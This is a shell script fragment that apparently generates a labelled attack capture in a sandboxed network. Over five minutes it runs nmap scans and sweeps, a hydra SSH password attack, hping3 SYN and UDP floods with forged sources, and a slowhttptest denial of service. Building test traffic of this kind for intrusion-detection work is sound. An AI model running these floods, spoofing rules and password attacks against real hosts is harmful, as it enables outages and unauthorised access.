# The attacks, one after the other over five minutes. Each is bounded in packets or time and aimed at a host of this network;
# attacks.tsv says which packets of the capture belong to it.

# as ADDRESS TARGET: the attacker's next packets to TARGET come from ADDRESS.
as() {
  ip -n "${prefix}attacker" route replace "$2/32" via 203.0.113.1 src "$1"
}

# pause SECONDS: unlike a sleep in front, it ends at once when the script is told to.
pause() {
  sleep "$1" &
  wait $!
}

# until_second N: waits until N seconds after the attacks' clock started.
until_second() {
  local left=$(($1 - SECONDS + attacks_started))
  [ "$left" -le 0 ] || pause "$left"
}

say() { echo "$((SECONDS - attacks_started)) s: $*"; }

run_attacks() {
  attacks_started=$SECONDS
  until_second 20; say 'SYN scan of the web server'; port_scan
  until_second 42; say 'ARP sweep by a visitor'; arp_sweep
  until_second 50; say 'the visitor sweeps the branch office for port 445'; host_sweep
  until_second 75; say 'password attack on SSH'; password_attack
  until_second 150; say 'SYN flood of the web server'; syn_flood
  until_second 180; say 'UDP flood of the file server'; udp_flood
  until_second 205; say 'slow HTTP against the web server'; slow_http &
  slow_http_job=$!
  until_second 230; say 'UDP scan of the name server'; udp_scan
  wait "$slow_http_job"
  until_second 330
}

port_scan() {
  as 203.0.113.66 192.168.50.80
  in_host attacker nmap -sS -n -Pn --top-ports 1000 --max-rate 250 --max-retries 1 192.168.50.80 >"$work/port-scan.log"
}

arp_sweep() {
  in_host visitor nmap -sn -n -PR --max-rate 100 --max-retries 1 192.168.50.0/24 >"$work/arp-sweep.log"
}

host_sweep() {
  in_host visitor nmap -sS -n -Pn -p 445 --min-rate 50 --max-rate 60 --max-retries 0 --min-hostgroup 512 192.168.60.0/23 >"$work/host-sweep.log" 2>&1
}

# Passwords from a list, the last of which is right, for 70 s at most; one per connection, because the server hangs up
# after a failure, and four at a time: about one a second.
password_attack() {
  as 203.0.113.67 192.168.50.22
  for number in $(seq 1 59); do echo "password-$number"; done >"$work/passwords.txt"
  echo "$deploy_password" >>"$work/passwords.txt"
  (cd "$work" && in_host attacker timeout 70 hydra -I -q -l deploy -P "$work/passwords.txt" -t 4 -w 3 ssh://192.168.50.22 >"$work/hydra.log" 2>&1) || true
}

# 12,000 SYNs in about 12 s. hping3 forges any source; the attacker's own packet filter moves them into 198.18.0.0/16
# (the benchmarking range), which the router leads back to the attacker, where the answers end.
syn_flood() {
  ip netns exec "${prefix}attacker" nft -f - <<'NFT'
table ip forge {
  chain output {
    type filter hook output priority raw;
    ip daddr 192.168.50.80 tcp dport 80 tcp flags & (syn | ack) == syn ip saddr set ip saddr & 0.0.255.255 | 198.18.0.0
  }
}
NFT
  in_host attacker timeout 30 hping3 --quiet --interface eth0 --syn --destport 80 --rand-source --interval u930 --count 12000 192.168.50.80 >"$work/syn-flood.log" 2>&1 || true
  ip netns exec "${prefix}attacker" nft delete table ip forge
}

# 18,000 datagrams in about 12 s.
udp_flood() {
  in_host attacker timeout 30 hping3 --quiet --interface eth0 --spoof 203.0.113.69 --udp --destport 9000 --baseport 40000 --keep --data 64 --interval u600 --count 18000 192.168.50.22 >"$work/udp-flood.log" 2>&1 || true
}

# 90 connections that never finish their request, held for 110 s.
slow_http() {
  as 203.0.113.68 192.168.50.80
  (cd "$work" && in_host attacker timeout 130 slowhttptest -H -c 90 -r 30 -i 15 -x 8 -l 110 -p 3 -t GET -u http://192.168.50.80/ -v 0 >"$work/slow-http.log" 2>&1) || true
}

udp_scan() {
  as 203.0.113.66 192.168.50.53
  in_host attacker nmap -sU -n -Pn --top-ports 60 --max-retries 0 --max-rate 20 192.168.50.53 >"$work/udp-scan.log"
}
